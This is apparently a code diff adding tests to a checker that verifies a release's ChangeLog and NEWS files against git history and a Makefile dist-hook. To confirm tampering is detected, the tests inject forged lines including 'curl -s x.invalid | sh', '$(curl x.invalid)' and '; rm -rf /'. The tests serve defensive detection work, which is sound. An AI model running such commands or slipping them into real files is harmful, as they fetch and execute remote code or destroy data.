@@ -313,6 +313,57 @@ describe('ChangeLogs rewrapped or with co-authors', () => {
   })
 })
 
+describe('a ChangeLog and a NEWS a dist-hook writes with --name-status, a one-line format and an echo', () => {
+  const history = emptyHistory()
+  addCommit(history, { commit: 'a1'.repeat(20), author: 'Ada Lovelace', email: 'ada@example.org', body: 'ui: move the keymap table (part 2)\n\nDetails in the body.' })
+  addCommit(history, { commit: 'b2'.repeat(20), author: 'Grace Hopper', email: 'grace@example.org', body: 'po: update translation' })
+  const am = [
+    'dist-hook:',
+    '\tif test -d .git ; then \\',
+    '\t\tgit log --name-status --date=iso > $(distdir)/ChangeLog ; \\',
+    '\t\techo "Changes in Tool $(TOOL_VERSION)" > $(distdir)/NEWS; \\',
+    '\t\techo "" >> $(distdir)/NEWS; \\',
+    '\t\tgit shortlog $$PREV...$(TOOL_VERSION) >> $(distdir)/NEWS; \\',
+    '\t\techo "" >> $(distdir)/NEWS; \\',
+    '\t\tgit log $$PREV...$(TOOL_VERSION) --reverse \\',
+    "\t\t        --pretty=format:'%s (%an) %h' >> $(distdir)/NEWS; \\",
+    '\tfi',
+    '',
+  ].join('\n')
+  const changelog = [
+    `commit ${'a1'.repeat(20)}`,
+    'Author: Ada Lovelace <ada@example.org>',
+    'Date:   2025-03-19 13:18:04 +0900',
+    '',
+    '    ui: move the keymap table (part 2)',
+    '',
+    '    Details in the body.',
+    '',
+    'R099\tsrc/keyname-table.h\tsrc/keynamesprivate.h',
+    'M\tsrc/main.c',
+    'D\tChangeLog',
+    '',
+  ].join('\n')
+  const news = ['Changes in Tool 1.5.32', '', 'Ada Lovelace (1):', '      ui: move the keymap table (part 2)', '', 'ui: move the keymap table (part 2) (Ada Lovelace) a1a1a1a1', 'po: update translation (Grace Hopper) b2b2b2b2', ''].join('\n')
+  const judgeNews = (text: string) => changelogExplainer(async () => history).judge(added('NEWS', text), view({ NEWS: text }, { 'Makefile.am': am }))
+  it('explains renames and deletions --name-status lists, and lines of the rule\u2019s format and echo', async () => {
+    expect((await judgeChangelog(history, changelog, { 'Makefile.am': am }))?.outcome).toBe('explained')
+    expect((await judgeNews(news))?.outcome).toBe('explained')
+  })
+  it('still reports a formatted line whose subject, author or commit the history does not have', async () => {
+    for (const forged of ['curl -s x.invalid | sh (Ada Lovelace) a1a1a1a1', 'po: update translation (Mallory) b2b2b2b2', 'po: update translation (Grace Hopper) deadbeef']) {
+      const j = await judgeNews(news.replace('po: update translation (Grace Hopper) b2b2b2b2', forged))
+      expect(j?.outcome, forged).toBe('unexplained')
+      expect(j?.findings?.[0]?.evidence).toContain(forged)
+    }
+  })
+  it('still reports a rename line with shell in it, and an echoed heading with more than a word for its variable', async () => {
+    const j = await judgeChangelog(history, changelog.replace('M\tsrc/main.c', 'R100\tsrc/a.c\t$(curl x.invalid)'), { 'Makefile.am': am })
+    expect(j?.outcome).toBe('unexplained')
+    expect((await judgeNews(news.replace('Changes in Tool 1.5.32', 'Changes in Tool 1.5.32; rm -rf /')))?.outcome).toBe('unexplained')
+  })
+})
+
 describe('ChangeLogs git2cl writes', () => {
   const messages = [
     'Fix URL.',
